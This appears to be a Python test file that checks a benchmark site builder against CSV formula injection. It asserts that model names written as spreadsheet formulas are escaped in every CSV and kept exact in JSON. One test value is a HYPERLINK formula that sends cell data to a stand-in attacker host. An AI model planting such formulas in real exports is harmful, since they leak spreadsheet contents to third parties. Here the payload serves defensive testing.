"""Issue #23 item 5 on a release and its site: models named with spreadsheet formulas leave
no formula cell in any CSV of the release (scores, validation) or of the site (every table's
download, data/requirements.csv), and every JSON keeps the names exactly."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from site_synth import make_release

from tests.test_csv_injection import scan
from vsb.site.build import build_site

MODELS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(A1)", "-2+3", "plain-model")


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("csvinj")
    release = make_release(root / "release", models=MODELS, hostile=False, n_resamples=50)
    site = root / "site"
    build_site(release, site)
    return release, site


def test_no_csv_of_a_release_or_its_site_holds_a_formula(built: tuple[Path, Path]) -> None:
    release, site = built
    csvs = [*release.rglob("*.csv"), *site.rglob("*.csv")]
    assert len(csvs) > 10  # the scan is not vacuous
    cells = {c for p in csvs for row in csv.reader(io.StringIO(p.read_text())) for c in row}
    assert {"'" + m for m in MODELS[:3]} <= cells, sorted(c for c in cells if c[:1] == "'")
    assert scan(release, site) == {}


def test_json_keeps_the_names_exactly(built: tuple[Path, Path]) -> None:
    release, site = built
    scores = json.loads((release / "scores/scores.json").read_text())
    assert set(MODELS) <= set(scores["models"])
    texts = [p.read_text() for p in site.rglob("*.json")]
    assert any(json.dumps(MODELS[0])[1:-1] in t for t in texts)
    assert not any("'" + MODELS[0] in t for t in texts)
